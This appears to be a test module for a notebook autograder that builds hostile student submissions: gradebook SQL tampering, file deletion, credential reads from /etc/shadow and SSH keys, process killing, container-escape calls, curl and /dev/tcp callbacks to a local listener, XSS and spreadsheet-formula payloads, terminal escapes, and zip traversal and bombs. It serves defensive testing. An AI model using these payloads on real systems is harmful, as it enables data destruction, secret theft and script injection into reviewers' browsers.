"""Attacks on the grader, the gradebook, the files, the network, and on whoever reads the feedback.

The answers are right, so nothing is lost by the attack and nothing may be gained: full points, no harm. A run
counts what was harmed; a submission may also be flagged.
"""

# ruff: noqa: E501 - students' lines are as long as they are

from __future__ import annotations

import io
import json
import stat
import tarfile
import zipfile

import nbformat

from tests.submissions.case import (
    ANY,
    CHAPTER,
    FAILED,
    FULL,
    GRADED,
    MISSING,
    REVIEW,
    TAMPERED,
    Hand,
    between,
    case,
    no_points,
    zipped,
)  # fmt: skip
from tests.submissions.lms import bomb

FILE = f"{CHAPTER}.ipynb"
#: Right answers beside an attack that fails; a person may be called.
UNHARMED = between(10, 10, GRADED, REVIEW, TAMPERED)
#: The attack may also cost the attacker something.
WHATEVER = between(0, 10, GRADED, REVIEW, TAMPERED, FAILED)

#: What a page must never run or fetch; the browser's test looks for both.
SCRIPT = "<script>document.title='PWNED'; fetch('http://127.0.0.1:{port}/script')</script>"


def _try(code: str) -> str:
    """Each line on its own, whatever it raises."""
    return "".join(f"try: {line}\nexcept BaseException as e: pass\n" for line in code.strip().splitlines())


# -- files and the gradebook -------------------------------------------------------------------------------


@case(UNHARMED, short=True)
def changes_all_grades(hand: Hand) -> None:
    """SQL on the gradebook."""
    hand.cell("import sqlite3, glob, os\n" + _try(
        f"[sqlite3.connect(p).execute('update grade set manual_score = 99').connection.commit() "
        f"for p in glob.glob({str(hand.world.course)!r} + '/**/gradebook.db', recursive=True) + ['gradebook.db', '../gradebook.db']]"
    ), after="1.1")  # fmt: skip


@case(UNHARMED, short=True)
def writes_in_the_course(hand: Hand) -> None:
    """Files planted in and removed from every folder of the course."""
    hand.cell(f"""
        import os, shutil
        root = {str(hand.world.course)!r}
        for place in (root, '..', '../..', '/', os.path.expanduser('~')):
            for base, dirs, files in os.walk(place):
                if base.startswith(('/proc', '/sys', '/usr', '/dev', '/tmp')): dirs.clear(); continue
                try: open(base + '/PLANTED', 'w').write('x')
                except OSError: pass
                for f in files:
                    if f.endswith(('.ipynb', '.db', '.csv', '.json')) and 'site-packages' not in base:
                        try: os.remove(base + '/' + f)
                        except OSError: pass
        shutil.rmtree(root, ignore_errors=True)
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def writes_where_python_looks(hand: Hand) -> None:
    """.pth files, sitecustomize, caches, other people's imports."""
    hand.cell("""
        import site, sys, os
        for p in [*site.getsitepackages(), *sys.path, sys.prefix, os.path.dirname(os.__file__)]:
            for n in ('planted.pth', 'sitecustomize.py', 'nbgrader.py'):
                try: open(os.path.join(p or '.', n), 'w').write('import os')
                except OSError: pass
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def reads_secrets_into_outputs(hand: Hand) -> None:
    """Prints every secret that it finds: it would stand in its own feedback."""
    root = str(hand.world.course)
    hand.cell(f"""
        import glob, os
        for p in glob.glob({root!r} + '/**', recursive=True) + ['/etc/shadow', '/etc/passwd', '/proc/1/environ', os.path.expanduser('~/.ssh/id_rsa')]:
            try: print(open(p).read()[:300])
            except (OSError, ValueError): pass
        print(dict(os.environ))
        """, after="1.5")  # fmt: skip


@case(UNHARMED)
def prints_the_hidden_inputs(hand: Hand) -> None:
    """Remembers what the checks ask and prints it in a cell of its own."""
    hand.code(
        "1.1",
        """
        SEEN = []
        _b = bandwidth
        def bandwidth(*a):
            SEEN.append(a)
            print('HIDDEN', a)
            return _b(*a)
        """,
    )
    hand.cell("""
        print('HIDDEN INPUTS', SEEN)
        import os
        print('SEED', os.environ.get('MEMLAB_CHECK_SEED'))
        from IPython.display import Markdown, display
        display(Markdown(f'{SEEN}'))
        raise ValueError(str(SEEN))
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def leaves_files_for_the_next(hand: Hand) -> None:
    """Files in all shared places, for whoever is graded next."""
    hand.cell("""
        import os
        for p in ('/tmp', '/dev/shm', '/var/tmp', os.getcwd(), os.path.expanduser('~'), '/memlab', '/memlab/run', '/memlab/runs'):
            try: open(p + '/FROM_THE_ONE_BEFORE', 'w').write('x')
            except OSError: pass
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def finds_files_of_the_one_before(hand: Hand) -> None:
    """Looks for what earlier submissions left. (It ends itself if there is any, and then loses points.)"""
    hand.cell("""
        import os
        for p in ('/tmp', '/dev/shm', '/var/tmp', os.getcwd(), os.path.expanduser('~'), '/memlab', '/memlab/run'):
            assert not os.path.exists(p + '/FROM_THE_ONE_BEFORE'), os._exit(1)
        """, after="1.1")  # fmt: skip


# -- processes and the kernel's channel --------------------------------------------------------------------


@case(WHATEVER, short=True)
def kills_everything(hand: Hand) -> None:
    """SIGKILL to every process it can name."""
    hand.cell(
        """
        import os
        for p in range(2, 40_000):
            if p != os.getpid():
                try: os.kill(p, 9)
                except OSError: pass
        """,
        after="1.1",
    )


@case(WHATEVER)
def kills_all_at_once(hand: Hand) -> None:
    """kill(-1)."""
    hand.cell("import os; os.kill(-1, 9)", after="1.1")


@case(WHATEVER)
def kills_its_parents(hand: Hand) -> None:
    """The parent, the group, process 1."""
    hand.cell("""
        import os, signal
        for s in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGINT):
            for p in (1, os.getppid()):
                try: os.kill(p, s)
                except OSError: pass
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def looks_out_of_its_world(hand: Hand) -> None:
    """/proc/1/root, ptrace, namespaces, mounts, devices."""
    hand.cell("import os, ctypes\nc = ctypes.CDLL(None)\n" + _try(
        "print(os.listdir('/proc/1/root'))\nprint(open('/proc/1/environ').read())\nc.ptrace(16, 1, 0, 0)\nc.unshare(0x10000000)\n"
        "c.mount(b'proc', b'/tmp', b'proc', 0, 0)\nc.chroot(b'/proc/1/root')\nos.setuid(0)\nos.mknod('/tmp/disk', 0o60600, os.makedev(8, 0))\n"
        "open('/dev/mem', 'rb').read(1)\nopen('/proc/sysrq-trigger', 'w').write('b')\nopen('/proc/sys/kernel/hostname', 'w').write('x')"
    ), after="1.1")  # fmt: skip


@case(WHATEVER)
def inherited_descriptors(hand: Hand) -> None:
    """Writes garbage into every descriptor that it inherited."""
    hand.cell(
        """
        import os
        for fd in range(3, 256):
            try: os.write(fd, b'{"ended": "exit 0", "ready": true}' + bytes(100))
            except OSError: pass
        """,
        after="1.1",
    )


@case(WHATEVER)
def speaks_for_the_kernel(hand: Hand) -> None:
    """Sends replies of its own on the kernel's sockets: broken, unsigned, huge, for other cells."""
    hand.cell("""
        k = get_ipython().kernel
        s = k.session
        for c in ({}, [], None, 'x', {'status': 3}, {'status': 'ok', 'payload': 7}, {'a': 'b' * 3_000_000}):
            for t in ('execute_reply', 'status', 'stream', 'error', 'display_data', 'shutdown_reply', '', 'x' * 1000):
                try: s.send(k.iopub_socket, t, c, parent=k.get_parent())
                except Exception: pass
        import zmq
        for frames in ([b''], [b'x'] * 9, [b'<IDS|MSG>', b'', b'{', b'{}', b'{}', b'{}'], [b'<IDS|MSG>', b'y' * 64, b'{}', b'{}', b'{}', b'{}']):
            try: k.iopub_socket.send_multipart(frames)
            except Exception: pass
        """, after="1.1")  # fmt: skip


@case(WHATEVER)
def closes_the_channel(hand: Hand) -> None:
    """Stops publishing."""
    hand.cell("get_ipython().kernel.iopub_thread.stop()", after="1.1")


@case(WHATEVER)
def removes_its_sockets(hand: Hand) -> None:
    """Deletes and replaces its connection file and sockets."""
    hand.cell("""
        import os, glob, shutil
        for p in glob.glob('/memlab/run*/*') + glob.glob('/memlab/run*/*/*'):
            try: os.remove(p)
            except OSError: pass
            try: os.symlink('/etc/passwd', p)
            except OSError: pass
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def odd_outputs_from_the_kernel(hand: Hand) -> None:
    """Bundles of every form: deep JSON, no text, lists, numbers, unknown types, transient data."""
    hand.cell(r"""
        from IPython.display import display, update_display
        deep = []
        for _ in range(500): deep = [deep]
        for d in ({'application/json': deep}, {'text/plain': 3}, {'text/plain': None}, {3: 'x'}, {'image/png': 'not base64'}, {'image/svg+xml': '<svg'},
                  {'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, {'text/html': ['<b>', 3]}, {'application/javascript': 'alert(1)'},
                  {'text/latex': '$' * 9999}, {'text/plain': '\x00\x1b[2J\ud800'}, {'application/vnd.memlab.evidence+json': []}):
            try: display(d, raw=True, metadata={'x': deep}, display_id='a')
            except Exception: pass
            try: update_display(d, raw=True, display_id='a')
            except Exception: pass
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def odd_errors(hand: Hand) -> None:
    """Exceptions whose names and texts are no text."""
    hand.cell(
        r"""
        class E(Exception):
            def __str__(self): return '\x1b]0;x\x07\ud800</pre>'
        E.__name__ = '<b>E'
        raise E
        """,
        after="1.1",
    )
    hand.cell("""
        get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, 'error', {'ename': 3, 'evalue': None, 'traceback': 'x'},
            parent=get_ipython().kernel.get_parent())
        """, after="1.2")  # fmt: skip


@case(UNHARMED)
def asks_the_frontend(hand: Hand) -> None:
    """Payloads, comms, input requests."""
    hand.cell("ip = get_ipython()\nip.payload_manager.write_payload({'source': 'set_next_input', 'text': 'x', 'replace': True})\n"
              "ip.payload_manager.write_payload({'source': 'page', 'data': {'text/plain': 'y' * 100_000}})\n" + _try(
        "import getpass; getpass.getpass()\nip.kernel.comm_manager\nfrom comm import create_comm; create_comm('jupyter.widget', data={'x': 1})"
    ), after="1.1")  # fmt: skip


# -- network -----------------------------------------------------------------------------------------------


@case(UNHARMED, short=True)
def connects(hand: Hand) -> None:
    """TCP, UDP and IPv6 to a listener of this machine, and names of the internet."""
    port = hand.world.port
    hand.cell(f"import socket, urllib.request\nfor family in (socket.AF_INET, socket.AF_INET6):\n    for host in ('127.0.0.1', 'localhost', '::1', '1.1.1.1', 'example.org'):\n"
              f"        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n            try:\n                s = socket.socket(family, kind); s.settimeout(0.3)\n"
              f"                s.connect((host, {port})); s.send(b'secret')\n            except OSError: pass\n"
              + _try(f"urllib.request.urlopen('http://127.0.0.1:{port}/urllib', timeout=0.3)"), after="1.1")  # fmt: skip


@case(UNHARMED)
def connects_by_programs(hand: Hand) -> None:
    """The same by other programs."""
    port = hand.world.port
    hand.cell(f"""
        !curl -m 1 http://127.0.0.1:{port}/curl
        !wget -T 1 -t 1 http://127.0.0.1:{port}/wget
        !bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'
        !{{__import__('sys').executable}} -c "import socket; socket.create_connection(('127.0.0.1', {port}), 0.3)"
        """, after="1.1")  # fmt: skip


@case(UNHARMED)
def listens(hand: Hand) -> None:
    """Opens ports itself, and waits."""
    hand.cell(
        """
        import socket
        for host in ('0.0.0.0', '127.0.0.1'):
            try:
                s = socket.socket(); s.bind((host, 0)); s.listen()
            except OSError: pass
        """,
        after="1.1",
    )


# -- the reader of the feedback ----------------------------------------------------------------------------


def _hostile_html(hand: Hand) -> str:
    port = hand.world.port
    script = SCRIPT.replace("{port}", str(port))
    js = f"document.title=`PWNED`;fetch(`http://127.0.0.1:{port}/event`)"
    return (
        f"{script}<img src=x onerror='{js}'><svg onload='{js}'></svg><details open ontoggle='{js}'></details>"
        f"<iframe srcdoc=\"{script.replace(chr(34), '')}\"></iframe><a href='javascript:{js}'>click</a>"
        f"<img src='http://127.0.0.1:{port}/pixel'><link rel=stylesheet href='http://127.0.0.1:{port}/style'>"
        f"<style>body{{background:url(http://127.0.0.1:{port}/css)}}</style><meta http-equiv=refresh content='0;url=http://127.0.0.1:{port}/refresh'>"
        f"<form action='http://127.0.0.1:{port}/form'><input autofocus onfocus='{js}'></form>"
        f"<base href='http://127.0.0.1:{port}/'><object data='http://127.0.0.1:{port}/object'></object>"
        f"<video src='http://127.0.0.1:{port}/video' autoplay></video><math><mtext><script>{js}</script></mtext></math>"
        f"</div></div></body><script>{js}</script><!-- "
    )


@case(UNHARMED, short=True)
def script_in_outputs(hand: Hand) -> None:
    """HTML, SVG, JavaScript and Markdown that scripts, fetches and redirects, as outputs."""
    html = _hostile_html(hand)
    hand.cell(f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
        H = {html!r}
        display(HTML(H)); display(Markdown(H)); display(Latex(H)); display(Javascript('document.title=`PWNED`'))
        display({{'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title=`PWNED`</script></svg>'}}, raw=True)
        display({{'image/png': '"><script>document.title=`PWNED`</script>'}}, raw=True)
        print(H)
        raise ValueError(H)
        """, after="1.5")  # fmt: skip


@case(UNHARMED, short=True)
def script_in_markdown(hand: Hand) -> None:
    """The same in texts: the written answer, a cell of its own."""
    html = _hostile_html(hand)
    hand.written().source += f"\n\n{html}\n\n[click](javascript:alert(1)) ![x](http://127.0.0.1:{hand.world.port}/md)\n\n$\\href{{javascript:alert(1)}}{{x}}$"
    hand.cell(html, kind="markdown")
    hand.nb.cells.append(nbformat.v4.new_raw_cell(html, id="raw"))


@case(UNHARMED)
def script_in_code(hand: Hand) -> None:
    """In sources and error messages, and where a page might not escape."""
    html = _hostile_html(hand)
    hand.code("1.1", f"NOTE = {html!r}\n# </script></pre>" + html.replace("\n", " "))
    hand.cell(
        f"""
        class X(Exception): pass
        X.__name__ = {html[:100]!r}
        raise X({html!r})
        """,
        after="1.1",
    )


@case(UNHARMED)
def script_in_answers(hand: Hand) -> None:
    """Answers that our own messages quote: the cheat's value stands in the feedback."""
    hand.code("1.1", "pass")
    html = _hostile_html(hand)
    hand.code(
        "1.3",
        f"""
        _c = copy_bandwidth
        def copy_bandwidth(*a):
            print({html!r})
            return _c(*a)
        """,
    )


@case(between(8, 8, GRADED, REVIEW))
def script_in_a_wrong_answer(hand: Hand) -> None:
    """A value that a message quotes."""
    html = _hostile_html(hand)
    hand.answer(
        "1.2",
        f"""
        def transfer_time(*a): return {html!r}
        def path(*a): return {html!r}
        """,
    )


@case(between(8, 8, GRADED, REVIEW))
def script_in_an_exception(hand: Hand) -> None:
    """An error that a message quotes."""
    html = _hostile_html(hand)
    hand.answer(
        "1.2",
        f"""
        def transfer_time(*a): raise ValueError({html!r})
        path = transfer_time
        """,
    )


@case(UNHARMED)
def script_in_metadata(hand: Hand) -> None:
    """Titles, tags, names and languages."""
    html = _hostile_html(hand)
    hand.nb.metadata.update(
        title=html,
        authors=[{"name": html}],
        language_info={"name": html, "pygments_lexer": html, "codemirror_mode": html},
    )
    for cell in hand.nb.cells:
        cell.metadata["tags"], cell.metadata["name"] = [html, "hide"], html
        if not cell.id.startswith(("ex", "check", "written")):
            cell.id = 'x" onmouseover=alert(1) y="'
    hand.give(json.dumps(hand.nb))


@case(UNHARMED)
def script_in_attachments(hand: Hand) -> None:
    """Attachments of every type."""
    hand.written().attachments = {
        "a.svg": {"image/svg+xml": "PHN2Zz4="},
        "b.html": {"text/html": "<script>document.title='PWNED'</script>"},
    }
    hand.written().source += "\n\n![a](attachment:a.svg) ![b](attachment:b.html)"


@case(UNHARMED)
def terminal_escapes(hand: Hand) -> None:
    """Escape sequences for the instructor's terminal, in names and errors."""
    hand.called("\\x1b[2J", "[2J evil", "?[2J evil", " [2J evil", "\x1b[2J evil", "[2J evil")
    hand.name = "\x1b[2J evil"
    hand.cell("raise ValueError('\\x1b]0;owned\\x07')", after="1.1")
    hand.give()


@case(UNHARMED)
def formula_as_a_name(hand: Hand) -> None:
    """A name that a spreadsheet would run."""
    hand.called("'=HYPERLINK(1)+cmd!A1", "=HYPERLINK(1)+cmd!A1")
    hand.name = "=HYPERLINK(1)+cmd!A1"
    hand.give()


@case(UNHARMED)
def markup_as_a_name(hand: Hand) -> None:
    """A name with HTML in it."""
    hand.called("<img src=x onerror=document.title='PWNED'>")
    hand.name = "<img src=x onerror=document.title='PWNED'>"
    hand.give()


@case(between(0, 10, *ANY))
def newline_in_a_name(hand: Hand) -> None:
    """A name on two lines, with commas and quotes: one row in each table."""
    hand.called('two lines, "quoted"')
    hand.name = 'two\nlines, "quoted"'
    hand.give()


@case(UNHARMED)
def percent_as_a_name(hand: Hand) -> None:
    """A name that becomes a path when decoded."""
    hand.called("a..%2f..%2fright")
    hand.name = "a..%2f..%2fright"
    hand.give()


# -- archives and file names -------------------------------------------------------------------------------


@case(UNHARMED, short=True)
def zip_traversal(hand: Hand) -> None:
    """Paths that lead out of the archive."""
    hand.beside(
        f"{hand.name}.zip",
        zipped({f"../../../../tmp/PLANTED/{FILE}": hand.nb, "../../PLANTED": b"x", "..\\..\\PLANTED": b"x"}),
    )


@case(UNHARMED)
def zip_absolute(hand: Hand) -> None:
    """Absolute paths."""
    hand.beside(f"{hand.name}.zip", zipped({f"/tmp/PLANTED/{FILE}": hand.nb, "/etc/PLANTED": b"x"}))


@case(no_points(FAILED, MISSING))
def zip_with_a_link(hand: Hand) -> None:
    """A link in a zip."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo(FILE)
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, str(hand.folder / "right" / FILE))
    hand.beside(f"{hand.name}.zip", stream.getvalue())


@case(no_points(FAILED, MISSING))
def tar_with_links_and_devices(hand: Hand) -> None:
    """Links, hard links, devices and pipes in a tarball."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for kind, target in (
            (tarfile.SYMTYPE, "/etc/passwd"),
            (tarfile.LNKTYPE, "/etc/passwd"),
            (tarfile.CHRTYPE, ""),
            (tarfile.FIFOTYPE, ""),
        ):
            info = tarfile.TarInfo(f"{kind!r}/{FILE}")
            info.type, info.linkname = kind, target
            archive.addfile(info)
    hand.beside(f"{hand.name}.tar.gz", stream.getvalue())


@case(no_points(), short=True)
def zip_bomb(hand: Hand) -> None:
    """300 kB that become 300 MB."""
    hand.beside(f"{hand.name}.zip", bomb(300 << 20))


@case(no_points())
def zip_of_many_bombs(hand: Hand) -> None:
    """The same, in forty members."""
    one = bytes(60 << 20)
    hand.beside(f"{hand.name}.zip", zipped([(f"{n}/{FILE}", one) for n in range(12)]))


@case(between(0, 10, *ANY))
def zip_of_many_files(hand: Hand) -> None:
    """Fifty thousand empty files before the notebook."""
    hand.beside(f"{hand.name}.zip", zipped([*((f"d/{n}", b"") for n in range(50_000)), (FILE, hand.nb)]))


@case(no_points())
def zip_that_lies(hand: Hand) -> None:
    """Declared sizes and checksums that aren't true."""
    content = bytearray(zipped({FILE: hand.nb}))
    start = content.find(b"PK\x01\x02")
    content[start + 24 : start + 28] = (10).to_bytes(4, "little")
    content[start + 16 : start + 20] = bytes(4)
    hand.beside(f"{hand.name}.zip", bytes(content))


@case(between(0, 10, *ANY))
def zip_in_zip_in_zip(hand: Hand) -> None:
    """Archives in archives."""
    content = zipped({FILE: hand.nb})
    for n in range(5):
        content = zipped({f"inner{n}.zip": content})
    hand.beside(f"{hand.name}.zip", content)


@case(no_points(FAILED, MISSING))
def pipe_for_a_file(hand: Hand) -> None:
    """A named pipe, from which reading never returns."""
    import os

    os.mkfifo(hand.own / FILE)
    hand.handed_in = True


@case(no_points())
def unreadably_large(hand: Hand) -> None:
    """A sparse file of 20 GB."""
    path = hand.give(b"{")
    with path.open("r+b") as stream:
        stream.truncate(20 << 30)


@case(between(0, 10, *ANY))
def odd_file_names(hand: Hand) -> None:
    """Names with line ends, quotes, escapes and bytes that are no text."""
    import os

    hand.give()
    for name in (
        b"01_memory_basics\n.ipynb",
        b"01_memory_basics\xff.ipynb",
        b"-rf 01_memory_basics.ipynb",
        b"$(touch PLANTED)01_memory_basics.ipynb",
    ):
        fd = os.open(os.fsencode(hand.own) + b"/" + name, os.O_CREAT | os.O_WRONLY)
        os.write(fd, nbformat.writes(hand.nb).encode())
        os.close(fd)


@case(FULL)
def link_beside(hand: Hand) -> None:
    """A good notebook, and links to secrets beside it that nobody may copy."""
    hand.give()
    hand.link("notes.txt", "/etc/shadow")
    hand.link("data", hand.world.course)


@case(FULL)
def loop_of_links(hand: Hand) -> None:
    """Links in a circle."""
    hand.give()
    hand.link("a", "b")
    hand.link("b", "a")
    hand.link("self", ".")


@case(FULL)
def deep_folders(hand: Hand) -> None:
    """Two hundred folders in each other."""
    hand.give(name="/".join("d" * 200) + f"/{FILE}")
